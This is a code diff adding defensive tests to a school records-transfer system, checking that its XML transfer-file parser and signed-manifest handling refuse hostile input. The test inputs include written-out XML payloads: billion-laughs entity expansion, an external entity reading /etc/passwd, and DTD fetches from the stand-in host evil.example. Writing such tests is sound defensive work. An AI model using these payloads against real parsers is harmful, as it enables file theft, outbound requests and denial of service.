@@ -266,3 +266,42 @@ def test_names_in_other_scripts_are_kept(senco_session):
         assert pupils.get_pupil(senco_session, pupil_id).details.legal_surname == \
             unicodedata.normalize("NFC", surname)
 
+
+
+# --- records-transfer packages and CTFs (parsers from issue #8) ------------------------------------
+
+@SLOW
+@given(field=st.sampled_from(["sender", "recipient", "pupil", "items", "stripped", "created_at",
+                              "package_id", "version", "leaving_date"]), value=json_values)
+def test_a_properly_signed_manifest_with_a_hostile_field_is_refused_or_harmless(field, value):
+    """A malicious school signs whatever it likes: the signature proves only who sent it."""
+    manifest = json.loads(targets.seeds("transfer_manifest")[0])
+    manifest[field] = value
+    targets.run_one("transfer_manifest", json.dumps(manifest).encode())
+
+
+@pytest.mark.parametrize("xml", [
+    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
+    b'&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;'
+    b'&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;'
+    b'&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;'
+    b'&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]><CTfile>&i;</CTfile>',
+    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b"<CTfile><Header><SourceSchool><SchoolName>&x;</SchoolName></SourceSchool></Header></CTfile>",
+    b'<?xml version="1.0"?><!DOCTYPE CTfile SYSTEM "http://evil.example/ctf.dtd"><CTfile/>',
+    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'
+    b"<CTfile/>",
+    b'<?xml version="1.0" encoding="UTF-9"?><CTfile/>',
+    b'<?xml version="1.0" encoding="EBCDIC-NOT"?><CTfile/>',
+    b"<CTfile>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</CTfile>",
+], ids=["billion laughs", "external entity", "external DTD", "parameter entity",
+        "unknown encoding", "bogus encoding", "deep nesting"])
+def test_a_hostile_ctf_is_refused_with_a_message(xml):
+    from sendesk.transfer import ctf
+    try:
+        ctf.parse_ctf(xml)
+    except SendeskError as exc:
+        assert_user_message(exc)
+        assert "passwd" not in str(exc) and "root:" not in str(exc)
+    else:
+        assert xml.startswith(b"<CTfile><a>")  # deep nesting of unknown tags is simply ignored
